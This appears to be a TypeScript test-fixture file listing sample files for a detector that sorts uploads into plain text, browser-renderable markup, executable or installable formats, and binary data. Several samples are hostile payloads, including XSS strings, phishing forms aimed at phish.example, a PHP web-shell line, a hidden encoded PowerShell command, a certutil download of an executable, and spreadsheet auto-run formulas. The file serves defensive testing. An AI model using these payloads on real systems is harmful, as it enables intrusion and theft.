import { latin1, type Sample, sample, utf16le } from './sample.ts';

const hex = (bytes: string) => Buffer.from(bytes.replaceAll(' ', ''), 'hex');

/** Text as people and programs write it. */
export const HONEST_TEXTS: readonly Sample[] = [
  sample('windows-1252.csv', 'text/csv', latin1('Name;Straße;Preis\r\nMüller;Hauptstraße 5;12,50 \x80\r\n')),
  sample('windows-1250.csv', 'text/csv', hex('4a 6d e9 6e 6f 3b 4d ec 73 74 6f 0d 0a 8e 69 9e 6b 61 3b 31 0d 0a')),
  sample('windows-1251.csv', 'text/csv', hex('c8 ec ff 3b c3 ee f0 ee e4 0d 0a c8 e2 e0 ed 3b 31 0d 0a')),
  sample('shift-jis.csv', 'text/csv', hex('8e 81 96 bc 2c 8f 5a 8f 8a 0d 0a 8e 52 93 63 2c 93 8c 8b 9e 0d 0a')),
  sample('gbk.csv', 'text/csv', hex('d0 d5 c3 fb 2c b5 d8 d6 b7 0d 0a d5 c5 c8 fd 2c b1 b1 be a9 0d 0a')),
  sample('macintosh.csv', 'text/csv', hex('4e 6f 6d 3b 56 69 6c 6c 65 0d 52 65 6e 8e 3b 4f 72 6c 8e 61 6e 73 0d')),
  // Two letters that a bitmap and a program begin with.
  sample('bmw.csv', 'text/csv', latin1(`BMW;Müller\r\n${'A;1\r\n'.repeat(30)}`)),
  sample('mz.csv', 'text/csv', 'MZ;1\n'),
  sample('utf-8-mark.csv', 'text/csv', '\ufeffName;Straße\r\n'),
  sample('excel-unicode.txt', 'text/plain', utf16le('Name\tStraße\r\n')),
  sample('form-feed.txt', 'text/plain', 'page 1\fpage 2\n'),
  sample('terminal.log', 'text/plain', '\x1b[32mok\x1b[0m tests passed\n'),
  sample('utf-7-mark.txt', 'text/plain', '+/v8-ADw-b+AD4-'),
  sample('html-column.csv', 'text/csv', 'sku,text\n1,"<p>Soft</p><iframe src=""https://v.example/x""></iframe>"\n'),
  sample('html-first.csv', 'text/csv', '"<b>x</b>",2\n'),
  sample('prices.csv', 'text/csv', 'ID;Preis;Name\r\nA;5;Ente\r\nNN;7;Esel\r\nO;1;2\r\n'),
  sample('formulas.csv', 'text/csv', "a,b\n=cmd|'/C calc'!A0,1\n"),
  sample('access.log', 'text/plain', '10.0.0.1 - - "GET /?q=<script>alert(1)</script>" 403 0\n'),
  sample('sys.log', 'text/plain', '<14>Jan  1 00:00:00 host app: started\n'),
  sample(
    'link.md',
    'text/markdown',
    '# T\n<https://example.com/?online=1> <a href="https://example.com/?only=1">x</a>\n',
  ),
  sample('centered.md', 'text/markdown', '<p align="center">\n  <img src="logo.png">\n</p>\n\n# Project\n'),
  sample('heading.md', 'text/markdown', '<h1 align="center">Project</h1>\n'),
  sample('badge.md', 'text/markdown', '<a href="https://x.example"><img src="b.svg"></a>\n\n# Project\n'),
  ...['div', 'table', 'br', 'b', 'font', 'style', 'picture', 'details'].map((tag) =>
    sample(`${tag}.md`, 'text/markdown', `<${tag}>\n\n# Project\n`),
  ),
  sample('break.md', 'text/markdown', '# Title\n\nline<br>line\n'),
  sample('fence.md', 'text/markdown', '# T\n```html\n<script src="a.js"></script>\n```\n'),
  sample('page-below.md', 'text/markdown', '# T\n<script>alert(1)</script>\n<iframe></iframe>\n<html>\n'),
  sample('php.md', 'text/markdown', '# T\n```php\n<?php echo 1;\n```\n'),
  sample('batch.md', 'text/markdown', '# T\n```\n@echo off\n```\n'),
  sample('comment.md', 'text/markdown', '<!-- toc -->\n# T\n'),
  sample('basic.md', 'text/markdown', '# T\nOption Explicit\n'),
  sample('shell-link.md', 'text/markdown', '[Shell](https://shell.example) and [autorun](https://a.example)\n'),
  sample('objects.json', 'application/json', '{"html":"<div onclick=\\"x()\\">","b":"<script>"}'),
  sample('escaped.json', 'application/json', '{"a":"\\u003cscript\\u003e"}'),
  sample('mark.json', 'application/json', '\ufeff{"a":1}'),
  sample('latin.json', 'application/json', latin1('{"a":"M\xfcller"}')),
  sample(
    'outlook.ics',
    'text/calendar',
    'BEGIN:VCALENDAR\r\nX-ALT-DESC;FMTTYPE=text/html:<!DOCTYPE HTML>\\n<BODY>\r\n',
  ),
  sample('card.vcf', 'text/vcard', latin1('BEGIN:VCARD\r\nVERSION:2.1\r\nN;CHARSET=ISO-8859-1:Müller;Jörg\r\n')),
  sample('copied-mail.txt', 'text/plain', 'From: Ann\nSent: Monday\nTo: Bob\nSubject: Hello\n\nMIME-Version: 1.0\n'),
  sample('request.txt', 'text/plain', 'Content-Type: application/json\nAccept: */*\n\n{}'),
  sample('about-pdf.md', 'text/markdown', 'A PDF begins with `%PDF-1.7` and ends with\n%%EOF\n'),
  sample('rem.txt', 'text/plain', 'Rem Koolhaas\nis an architect\n'),
  sample('version.txt', 'text/plain', '[version]\nmajor = 1\n'),
  sample('registry.txt', 'text/plain', 'Windows Registry Editor is a program.\n'),
  sample('editor.txt', 'text/plain', '@alice said: @start\n'),
];

/** Text with markup that a browser would run if the stored type asked it to. */
export const RENDERABLE_TEXTS: readonly Sample[] = [
  ...[
    '<scr\x1b(Bipt>alert(1)</scr\x1b(Bipt>',
    '<img alt="<>" src=x onerror=alert(1)>',
    '<a href="javascript:alert(1)">click</a>',
    '<meta http-equiv="refresh" content="0;url=https://phish.example/">',
    '<form action="https://phish.example/"><input type=password></form>',
    '<link rel=stylesheet href="https://evil.example/a.css">',
    '<template shadowrootmode=open><b>x</b></template>',
    '<img/src=x/onerror=alert(1)>',
    '<svg onload=alert(1)>',
    '<?php system($_GET[0]);',
  ].map((markup, index) => sample(`markup-${index}.txt`, 'text/plain', `Hello\n${markup}\n`)),
  sample('python.txt', 'text/plain', 'import os\nos.system("id")\n'),
  sample('powershell.txt', 'text/plain', 'powershell -nop -w hidden -enc SQBFAFgA\n'),
  sample('commands.txt', 'text/plain', 'rem x\r\ncertutil -urlcache -f http://x/a.exe a.exe\r\n'),
  sample('basic.txt', 'text/plain', 'Dim s\nSet s = CreateObject("WScript.Shell")\ns.Run "calc"\n'),
];

/** Text that begins as something that runs, renders or installs, whatever it is called. */
export const ACTIVE_TEXTS: readonly Sample[] = [
  sample('shell.txt', 'text/x-shellscript', '\ufeff#!/bin/sh\nid\n'),
  sample('shebang.md', 'text/x-shellscript', '#!markdown\n'),
  sample('php.txt', 'application/x-httpd-php', '\n<?php system("id");'),
  sample('php-short.txt', 'application/x-httpd-php', '<?= `id` ?>'),
  sample('php-in-xml.txt', 'application/x-httpd-php', '<?xml version="1.0"?><?php system("id"); ?><a/>'),
  sample('asp.txt', 'application/x-asp', '<%@ Page Language="C#" %>'),
  sample('page.txt', 'text/html', '  <!-- a -->\n<!DOCTYPE html>\n<p>x'),
  sample('page-legacy.txt', 'text/html', '<!DOCTYPE HTML PUBLIC "-//W3C//DTD HTML 3.2//EN"><P>x'),
  ...['html', 'head', 'body', 'script', 'iframe', 'title'].map((tag) =>
    sample(`${tag}.md`, 'text/html', `<!-- x -->\n<${tag.toUpperCase()} a>x`),
  ),
  sample('svg.txt', 'image/svg+xml', '<svg onload=alert(1)>'),
  sample('hta.txt', 'application/hta', '<hta:application id="x"/>'),
  sample(
    'scriptlet.txt',
    'application/x-windows-script',
    '<?XML version="1.0"?><scriptlet><script>1</script></scriptlet>',
  ),
  sample('url.txt', 'application/x-mswinurl', '\ufeff[InternetShortcut]\nURL=file://evil/x\n'),
  sample('url-blank.txt', 'application/x-mswinurl', '\r\n[{000214A0-0000-0000-C000-000000000046}]\r\nProp3=19,2\r\n'),
  sample('scf.txt', 'application/x-ms-scf', '[Shell]\nCommand=2\nIconFile=\\\\1.2.3.4\\s\\x.ico\n'),
  sample('desktop.txt', 'application/x-desktop', '# c\n\n# d\n[Desktop Entry]\nExec=xterm\n'),
  sample('autorun.txt', 'application/x-setupinf', '; c\r\n[autorun]\r\nopen=x.exe'),
  sample('inf.txt', 'application/x-setupinf', '[Version]\r\nSignature="$CHICAGO$"\r\n'),
  sample('registry.txt', 'application/x-ms-regedit', 'Windows Registry Editor Version 5.00\r\n'),
  sample('registry4.txt', 'application/x-ms-regedit', 'REGEDIT4\r\n'),
  sample('registry-unicode.txt', 'application/x-ms-regedit', utf16le('Windows Registry Editor Version 5.00\r\n')),
  sample('batch.txt', 'application/x-bat', '\r\n@ECHO OFF\r\n'),
  sample('batch-comment.txt', 'application/x-bat', ':: note\r\nrem note\r\nsetlocal\r\n'),
  sample('powershell.txt', 'application/x-powershell', '#Requires -Version 5\n'),
  sample('rtf.txt', 'application/x-rtf-object', '{\\rtf1 {\\object\\objocx}}'),
  sample('rtf-short.txt', 'application/x-rtf-object', '{\\rt {\\object\\objocx}}'),
  sample('postscript.txt', 'application/postscript', '%!PS\n'),
  sample('sheet.csv', 'application/x-sylk', 'ID;P\nO;E\nNN;NAuto_open;ER101C1\nC;X1;Y101;K0;EEXEC("CALC.EXE")\nE\n'),
  sample('sheet-formula.csv', 'application/x-sylk', 'ID;PWXL;N;E\r\nP;PGeneral\r\nC;Y1;X1;K0;E1+1\r\nE\r\n'),
  sample('query.txt', 'text/x-ms-iqy', 'WEB\n1\nhttp://evil.example/x\n'),
  sample('remote.txt', 'application/x-rdp', 'full address:s:evil.example\nremoteapplicationmode:i:1\n'),
  sample(
    'page-archive.txt',
    'message/rfc822',
    'MIME-Version: 1.0\nContent-Type: multipart/related; boundary="b"\n\n--b\n',
  ),
  sample(
    'mail.txt',
    'message/rfc822',
    'From: a@b.example\nContent-Type: text/html\nContent-Transfer-Encoding: base64\n\nPHM=\n',
  ),
  sample('folded.txt', 'message/rfc822', 'Subject: x\r\n y\r\nContent-Type:\r\n multipart/mixed; boundary=b\r\n\r\n'),
  sample('mbox.txt', 'message/rfc822', 'From a@b Thu Jan  1 00:00:00 1970\nSubject: x\nMIME-Version: 1.0\n\n'),
  sample('word.xml', 'application/x-cfb', '<?xml version="1.0"?>\n<?mso-application progid="Word.Document"?><w/>'),
];

/** Not text, by a NUL or another control character that text never has. */
export const BINARY_TEXTS: readonly Sample[] = [
  sample('no-mark.csv', 'application/octet-stream', Buffer.from('Name;Preis\r\n', 'utf16le')),
  ...['\0', '\x01', '\b', '\x0b', '\x0e', '\x1a', '\x1c', '\x1f'].map((control, index) =>
    sample(`control-${index}.csv`, 'application/octet-stream', `id,text\n1,"a${control}b"\n`),
  ),
];
